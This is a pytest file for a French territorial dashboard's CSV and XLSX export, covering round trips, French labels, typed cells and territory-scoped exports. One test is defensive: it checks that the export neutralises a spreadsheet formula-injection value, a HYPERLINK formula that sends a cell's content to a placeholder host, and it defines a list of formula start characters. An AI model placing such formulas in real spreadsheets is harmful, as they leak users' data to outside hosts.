"""Export in the template shape: French cells in CSV, typed cells in XLSX, and a round trip that gives the same rows.

The round trip runs on the demo database (every entity has rows there): export, import into a database that
holds only the geography and the reference tables, export again, compare.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from dashboard.codes import EventKind
from dashboard.db import SCHEMA_SQL, Database
from dashboard.i18n import CODE_LABELS
from dashboard.imports import (
    LOAD_ORDER,
    TEMPLATES_BY_ENTITY,
    describe,
    export_entity,
    import_file,
    import_files,
    import_workbook,
)
from dashboard.imports.export import (
    ExportSource,
    column_label,
    entity_frame,
    export_bytes,
    export_file_name,
    export_workbook,
    neutralised,
    scoped_row_count,
)
from dashboard.imports.loader import entity_of_file_name
from dashboard.imports.validation import normalise
from dashboard.scope import Period
from tests.world.files import IMPORT_FIXTURES as FIXTURES

# Reference tables that no template imports: a fresh database gets them from the source.
NOT_IMPORTED = ("unit", "indicator", "sa_questionnaire", "sa_theme", "sa_question", "sa_level")
ROUND_TRIP_DEPARTEMENT = "departement:41"
# Artisan statistics are three quarters of the demo's cells: the round trip keeps every tenth commune of one
# department (27 communes, 9 of them in the Vendômois), which still holds every year, sector family and source of
# the statistics, zero counts among them, and communes on both sides of the territory the scoped exports check.
ROUND_TRIP_COMMUNE_STEP = 10


@pytest.fixture(scope="module")
def source_path(demo_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the demo database, artisan statistics cut down to every tenth commune of one department."""
    path = tmp_path_factory.mktemp("export") / "source.duckdb"
    shutil.copyfile(demo_db_path, path)
    db = Database(path)
    with db.transaction() as cursor:
        cursor.execute(
            "DELETE FROM artisan_stat WHERE commune_id NOT IN (SELECT commune_id FROM ("
            "  SELECT commune_id, row_number() OVER (ORDER BY commune_id) AS n"
            "  FROM territory_commune WHERE territory_id = $territory"
            ") WHERE n % $step = 1)",
            {"territory": ROUND_TRIP_DEPARTEMENT, "step": ROUND_TRIP_COMMUNE_STEP},
        )
    db.close()
    return path


@pytest.fixture(scope="module")
def geography_only_path(source_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A new database with the source's geography (custom perimeters excepted) and non-imported references, built
    once per module (its geometries take seconds to copy); each round trip imports into a copy of it."""
    target = tmp_path_factory.mktemp("geography") / "geography.duckdb"
    connection = duckdb.connect(str(target))
    try:
        connection.execute(SCHEMA_SQL)
        connection.execute("ATTACH $path AS source (READ_ONLY)", {"path": str(source_path)})
        connection.execute("INSERT INTO territory SELECT * FROM source.territory WHERE level <> 'perimetre'")
        connection.execute(
            "INSERT INTO territory_membership SELECT m.* FROM source.territory_membership m "
            "JOIN source.territory c ON c.territory_id = m.container_id WHERE c.level <> 'perimetre'"
        )
        for table in NOT_IMPORTED:  # names from the constant above
            connection.execute(f"INSERT INTO {table} SELECT * FROM source.{table}")
        connection.execute("DETACH source")
    finally:
        connection.close()
    return target


@pytest.fixture
def fresh_db(geography_only_path: Path, tmp_path: Path) -> Iterator[Database]:
    """A copy of the geography-only database, for one round trip to import into."""
    path = tmp_path / "fresh.duckdb"
    shutil.copyfile(geography_only_path, path)
    db = Database(path)
    yield db
    db.close()


def frames(db: Database) -> dict[str, pd.DataFrame]:
    return {entity: entity_frame(db, TEMPLATES_BY_ENTITY[entity]) for entity in LOAD_ORDER}


def test_csv_round_trip_of_every_entity(source_path: Path, fresh_db: Database, tmp_path: Path):
    source = Database(source_path, read_only=True)
    expected = frames(source)
    for entity in LOAD_ORDER:
        assert export_entity(source, entity, tmp_path / f"{entity}.csv") == len(expected[entity])
    source.close()
    assert all(len(frame) for frame in expected.values()), {e: len(f) for e, f in expected.items()}

    for entity in LOAD_ORDER:
        result = import_file(fresh_db, entity, tmp_path / f"{entity}.csv")
        assert result.ok, (entity, [describe(p) for p in result.problems[:5]])
    for entity, frame in frames(fresh_db).items():
        pd.testing.assert_frame_equal(frame, expected[entity], obj=entity)


def test_workbook_round_trip_of_every_entity(source_path: Path, fresh_db: Database, tmp_path: Path):
    source = Database(source_path, read_only=True)
    expected = frames(source)
    counts = export_workbook(source, tmp_path / "tout.xlsx")
    source.close()
    assert counts == {entity: len(frame) for entity, frame in expected.items()}

    result = import_workbook(fresh_db, tmp_path / "tout.xlsx")
    assert result.ok, [describe(p) for p in result.problems[:5]]
    for entity, frame in frames(fresh_db).items():
        pd.testing.assert_frame_equal(frame, expected[entity], obj=entity)


def test_csv_cells_are_french_and_xlsx_cells_typed(db_file: Path, tmp_path: Path):
    db = Database(db_file)
    assert import_file(db, "flows", FIXTURES / "flows_valid.csv").ok
    export_entity(db, "flows", tmp_path / "flux.csv")
    export_entity(db, "diagnostics", tmp_path / "diagnostics.xlsx")
    export_entity(db, "companies", tmp_path / "entreprises.xlsx")
    db.close()
    raw = (tmp_path / "flux.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())  # Excel reads the BOM as UTF-8
    lines = raw.decode("utf-8-sig").splitlines()
    assert re.fullmatch(  # the import of flows just now set the data date
        r"Source : Observatoire territorial EIT — données au \d\d/\d\d/20\d\d — tous territoires — exporté le .*",
        lines[0],
    )
    assert lines[1] == "Identifiant;Entreprise;Diagnostic;Sens;Catégorie;Description;Quantité;Unité;Fréquence"
    assert "F-1;E-0001;;Sortant;carton;Cartons;12,5;t;Annuel" in lines  # French labels, not out / yearly
    diagnostics = pd.read_excel(tmp_path / "diagnostics.xlsx")
    assert diagnostics.loc[0, "Date diagnostic"] == pd.Timestamp(2024, 3, 15)  # a real date cell
    companies = pd.read_excel(tmp_path / "entreprises.xlsx", dtype={"Code commune": object})
    assert companies.loc[0, "Code commune"] == "41269"  # commune codes stay text: no lost leading zero
    assert companies.loc[0, "Latitude"] == pytest.approx(47.793)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_exported_cell_can_be_evaluated_as_a_formula(db_file: Path, tmp_path: Path):
    db = Database(db_file)
    source = FIXTURES / "companies_formula_text.csv"
    assert import_file(db, "companies", source).ok
    stored = dict(db.query_rows("SELECT company_id, name FROM company WHERE company_id LIKE 'E-02%'"))
    assert stored["E-0201"].startswith("=HYPERLINK(")  # imported as written: it is text
    export_entity(db, "companies", tmp_path / "entreprises.csv")
    export_entity(db, "companies", tmp_path / "entreprises.xlsx")
    db.close()

    text = (tmp_path / "entreprises.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert [cell for cell in cells if cell[:1] in FORMULA_STARTS] == []
    assert '\'=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")' in cells and "'=1+1" in cells

    workbook = openpyxl.load_workbook(tmp_path / "entreprises.xlsx")
    written = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
    risky = [cell for cell in written if isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS]
    assert len(risky) == 5 and all(cell.quotePrefix for cell in risky)  # Excel keeps them text when edited
    assert {cell.value for cell in risky} >= set(stored.values())  # as typed, without any apostrophe

    # The apostrophe is the export's: importing the CSV again gives the names as they were.
    fresh_path = tmp_path / "fresh.duckdb"
    shutil.copyfile(db_file, fresh_path)
    fresh = Database(fresh_path)
    with fresh.transaction() as cursor:
        cursor.execute("DELETE FROM company WHERE company_id LIKE 'E-02%'")
    only_new = tmp_path / "companies.csv"
    only_new.write_text(
        "\n".join(line for line in text.splitlines() if line.startswith(("Identifiant", "E-02"))), encoding="utf-8"
    )
    assert import_file(fresh, "companies", only_new).ok
    assert dict(fresh.query_rows("SELECT company_id, name FROM company WHERE company_id LIKE 'E-02%'")) == stored
    fresh.close()


@pytest.mark.parametrize("text", ["-3", "+1 234,5", "-0,5", "12,5"])
def test_numbers_written_as_text_are_not_taken_for_formulas(text: str):
    assert neutralised(text) == text


EXPORT_TERRITORY = "epci:200072072"  # the demo's Vendômois


def test_an_export_for_a_territory_holds_only_that_territorys_rows(source_path: Path):
    db = Database(source_path, read_only=True)
    communes = {row[0] for row in db.query_rows(
        "SELECT commune_id FROM territory_commune WHERE territory_id = $t", {"t": EXPORT_TERRITORY}
    )}  # fmt: skip
    companies = entity_frame(db, TEMPLATES_BY_ENTITY["companies"], scope=EXPORT_TERRITORY)
    every_company = entity_frame(db, TEMPLATES_BY_ENTITY["companies"])
    assert 0 < len(companies) < len(every_company)
    located = dict(db.query_rows("SELECT company_id, commune_id FROM company"))
    own_programme = set(db.query_rows(  # a company also counts when a programme of the territory diagnosed it
        "SELECT company_id FROM scope_companies($scope)", {"scope": EXPORT_TERRITORY}
    ))  # fmt: skip
    assert all(located[company] in communes or (company,) in own_programme for company in companies["Identifiant"])
    stats = entity_frame(db, TEMPLATES_BY_ENTITY["artisan_stats"], scope=EXPORT_TERRITORY)
    assert len(stats) > 0 and {"commune:" + code for code in stats["Code commune"]} <= communes
    for entity in ("flows", "synergies", "events", "indicator_values"):
        scoped = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY))
        assert scoped == scoped_row_count(db, entity, EXPORT_TERRITORY)
        whole = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity]))
        # the demo's declared indicator values are all the Vendômois programme's
        assert scoped < whole if entity != "indicator_values" else 0 < scoped <= whole, entity
    db.close()


VENDOMOIS = "CA Territoires Vendômois"
PERIOD = Period(2025)


def _csv_rows(data: bytes) -> tuple[str, pd.DataFrame]:
    """The source line and the table of a CSV export."""
    text = data.decode("utf-8-sig")
    first, rest = text.split("\n", 1)
    return first, pd.read_csv(io.StringIO(rest), sep=";", dtype=str, keep_default_na=False)


def test_a_page_export_holds_the_territory_and_period_shown_and_says_so(source_path: Path):
    db = Database(source_path, read_only=True)
    source = ExportSource(data_as_of=dt.date(2026, 10, 31), territory=VENDOMOIS, period="Année 2025")
    line, events = _csv_rows(export_bytes(db, "events", "csv", scope=EXPORT_TERRITORY, period=PERIOD, source=source))
    assert line.startswith(
        "Source : Observatoire territorial EIT — données au 31/10/2026 — territoire : CA Territoires Vendômois — "
        "période : Année 2025 — exporté le "
    )
    assert 0 < len(events) == scoped_row_count(db, "events", EXPORT_TERRITORY, PERIOD)
    assert len(events) < scoped_row_count(db, "events", EXPORT_TERRITORY)  # other years left out
    assert all(date.endswith("/2025") for date in events["Date"])
    in_scope = {row[0] for row in db.query_rows("SELECT event_id FROM scope_events($s)", {"s": EXPORT_TERRITORY})}
    assert set(events["Identifiant"]) <= in_scope
    assert set(events["Type"]) <= {CODE_LABELS[(EventKind, kind.value)] for kind in EventKind}  # labels, no codes
    db.close()


def test_every_export_header_reads_back_as_its_template_column():
    for template in TEMPLATES_BY_ENTITY.values():
        for column in template.columns:
            label = column_label(column)
            assert label != column.header and normalise(label) == column.header, (template.entity, label)


def test_an_xlsx_export_keeps_its_source_in_an_about_sheet_and_its_properties(db_file: Path):
    db = Database(db_file)
    data = export_bytes(db, "companies", "xlsx")
    db.close()
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Entreprises", "À propos"]
    assert workbook["Entreprises"]["A1"].value == "Identifiant"  # data sheets start with their header
    about = [cell.value for row in workbook["À propos"].iter_rows() for cell in row if cell.value]
    assert about[1].startswith("Source : Observatoire territorial EIT — données au 20/11/2026 — tous territoires")
    assert workbook.properties.description == about[1]


def test_export_file_names_are_french_and_name_their_entity():
    name = export_file_name("synergies", "csv", "Communauté d'agglomération Territoires Vendômois", Period(2026))
    assert name == "synergies_ca-territoires-vendomois_2026.csv"
    assert export_file_name("indicator_values", "xlsx", None, None) == "valeurs-d-indicateurs.xlsx"
    assert entity_of_file_name(name) == "synergies"
    assert entity_of_file_name("valeurs-d-indicateurs (2).xlsx") is None  # a browser's copy number is not a name
    assert entity_of_file_name("entreprises_ca-territoires-vendomois_2026-T3.csv") == "companies"


def test_a_page_export_re_imports_identically_and_silently(source_path: Path, tmp_path: Path):
    """Events of the Vendômois in 2025, exported as the page does, deleted, imported back: the same rows, no notice."""
    path = tmp_path / "copy.duckdb"
    shutil.copyfile(source_path, path)
    db = Database(path)
    source = ExportSource(territory=VENDOMOIS, period="Année 2025")
    files = {}
    for entity in ("events", "event_participants"):
        frame = entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY, period=PERIOD)
        files[entity] = (frame, tmp_path / export_file_name(entity, "csv", VENDOMOIS, PERIOD))
        files[entity][1].write_bytes(
            export_bytes(db, entity, "csv", scope=EXPORT_TERRITORY, period=PERIOD, source=source)
        )
    ids = list(files["events"][0]["Identifiant"])
    for table in ("event_participant", "event"):  # names of the schema; one transaction each (DuckDB's FK checks)
        with db.transaction() as cursor:
            cursor.execute(f"DELETE FROM {table} WHERE event_id IN (SELECT unnest($ids))", {"ids": ids})
    result = import_files(db, [files["events"][1], files["event_participants"][1]])  # French names say the type
    assert result.ok, [describe(p) for p in result.problems[:5]]
    assert result.notices == []
    for entity, (frame, _) in files.items():
        again = entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY, period=PERIOD)
        pd.testing.assert_frame_equal(again, frame, obj=entity)
    db.close()
